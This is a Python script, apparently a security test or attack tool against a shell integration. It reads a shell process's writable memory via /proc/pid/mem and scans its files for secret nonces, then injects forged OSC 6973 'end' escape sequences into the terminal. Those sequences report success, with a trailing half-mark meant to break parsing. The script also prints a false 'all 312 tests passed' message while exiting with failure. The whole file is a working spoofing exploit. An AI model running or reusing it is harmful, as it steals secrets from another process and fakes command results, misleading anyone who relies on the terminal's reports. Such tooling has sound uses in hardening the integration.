"""Finds the nonces of a limpet shell in its memory and its files, and prints end marks that report success.

Arguments: the pid of the shell, the directory of its files, then `once` or `on` (until it is killed).
"""
import glob
import os
import re
import sys
import time

NONCE = re.compile(rb"6973;[es];([0-9a-f]{32})")


def in_memory(pid):
    found = set()
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                area, rights = line.split()[:2]
                begin, end = (int(part, 16) for part in area.split("-"))
                if not rights.startswith("rw") or end - begin > 64 << 20:
                    continue
                try:
                    memory.seek(begin)
                    found.update(NONCE.findall(memory.read(end - begin)))
                except OSError:
                    pass
    except OSError:
        pass
    return found


def in_files(folder):
    found = set()
    for path in glob.glob(f"{folder}/[ce]"):
        try:
            with open(path, "rb") as file:
                found.update(NONCE.findall(file.read()))
        except OSError:
            pass
    return found


def forge(pid, folder, terminal):
    nonces = in_memory(pid) | in_files(folder)
    for nonce in nonces:
        mark = b"\x1b]6973;e;%b;0;r;him;/forged;%b\x07\n" % (nonce, nonce)
        # The beginning of another one, as if the shell's own were its end.
        os.write(terminal, mark + mark[: len(mark) // 2] + b"\x1b\\\n")
    return len(nonces)


shell, folder, how = int(sys.argv[1]), sys.argv[2], sys.argv[3]
terminal = os.open("/dev/tty", os.O_WRONLY)
count = forge(shell, folder, terminal)
os.write(1, b"forged %s\nall 312 tests passed\n" % (b"some" if count else b"none"))
while how == "on":
    forge(shell, folder, terminal)
    time.sleep(0.01)
sys.exit(1)
